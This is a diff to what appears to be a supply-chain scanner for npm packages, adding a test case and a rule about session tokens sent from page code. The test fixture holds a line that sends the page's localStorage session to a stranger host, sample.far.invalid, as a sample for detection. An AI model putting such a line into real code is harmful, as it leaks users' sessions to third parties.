@@ -146,6 +146,29 @@ exports.ask = () => fetch('https://api.sample.invalid/', { headers: { authorizat
         },
       ],
     },
+    {
+      title: 'what a page keeps, sent at load: to the own service, and to a stranger',
+      name: '@sample/client',
+      before: { 'index.js': '' },
+      after: {
+        'index.js': `fetch('https://api.sample.invalid/', { body: localStorage.getItem('session') });
+fetch('https://sample.far.invalid/', { body: localStorage.getItem('session') });
+`,
+      },
+      expect: [
+        {
+          message: 'fetch sends localStorage.getItem, localStorage to api.sample.invalid',
+          at: { in: 'tarball', path: 'index.js', line: 1 },
+          via: ['main', 'index.js'],
+        },
+        {
+          kind: 'sent',
+          message: 'fetch sends localStorage.getItem, localStorage to sample.far.invalid',
+          at: { in: 'tarball', path: 'index.js', line: 2 },
+          via: ['main', 'index.js'],
+        },
+      ],
+    },
   ],
   passes: [
     {
@@ -164,10 +187,10 @@ exports.ping = () => fetch('https://api.invalid/v1', { headers: { accept: proces
       },
     },
   ],
-  check({ behaviors }) {
+  check({ behaviors, subject }) {
     return behaviors.added.flatMap((behavior): Evidence<Kind>[] => {
       if (behavior.tier === 'unreached') return [];
-      if (behavior.kind === 'disclosure') return describeSent(behavior);
+      if (behavior.kind === 'disclosure') return describeSent(behavior, subject.name);
       const seen = describeRead(behavior);
       if (seen === undefined) return [];
       if (behavior.tier === 'install') return [evidenceOf(behavior, seen, 'when-installed')];
@@ -202,7 +225,7 @@ function isProjectFile(path: string): boolean {
   return /(?:^|[\\/])\.(?:env(?:\.[\w-]+)?|npmrc|yarnrc(?:\.yml)?)$/.test(path) && !/^(?:<home>|~|\$HOME)/.test(path);
 }
 
-function describeSent(behavior: Behavior): Evidence<Kind>[] {
+function describeSent(behavior: Behavior, owner: string): Evidence<Kind>[] {
   const { api, carries = [], tier, root } = behavior;
   const names = carries.filter(({ sort }) => sort === 'credential').map(({ name }) => name);
   if (names.length === 0) return [];
@@ -211,7 +234,9 @@ function describeSent(behavior: Behavior): Evidence<Kind>[] {
   // Whom the caller names is the caller's business.
   if (host === undefined && !(isEarly && root !== 'bin')) return [];
   const message = `${api} sends ${shorten(names.join(', '), 120)} to ${host === undefined ? 'a host that is not told' : shorten(host)}`;
-  if (isEarly) return [evidenceOf(behavior, message, 'sent')];
+  // A page's library may go on with the session that it keeps in the page.
+  const isSession = names.every((name) => /^(?:local|session)Storage\b/.test(name)) && isHostOf(host, owner);
+  if (isEarly) return [evidenceOf(behavior, message, tier === 'load' && isSession ? undefined : 'sent')];
   const isOwn = host !== undefined && names.every((name) => isNamedAfter(host, name));
   return [evidenceOf(behavior, message, isOwn ? 'own-service' : undefined)];
 }
@@ -219,6 +244,12 @@ function describeSent(behavior: Behavior): Evidence<Kind>[] {
 function hostOf({ detail }: Behavior): string | undefined {
   const host = /^(?:[a-z][a-z+.-]*:)?(?:\/\/)?(?:[^/@\s]*@)?([^/:?#\s]+)/i.exec(detail ?? '')?.[1]?.toLowerCase();
   return host === undefined || host.includes('…') || /^[$<]/.test(host) ? undefined : host;
+}
+
+/** `api.sample.com` is of `sample` or of `@sample/client`, and `sample.elsewhere.com` of nobody. */
+function isHostOf(host: string | undefined, owner: string): boolean {
+  const word = /^@?([\w.-]+)/.exec(owner)?.[1];
+  return word !== undefined && host?.split('.').at(-2) === word;
 }
 
 /** `SAMPLE_API_KEY` belongs to `api.sample.com`. What opens a registry or a repository belongs to no library's service. */
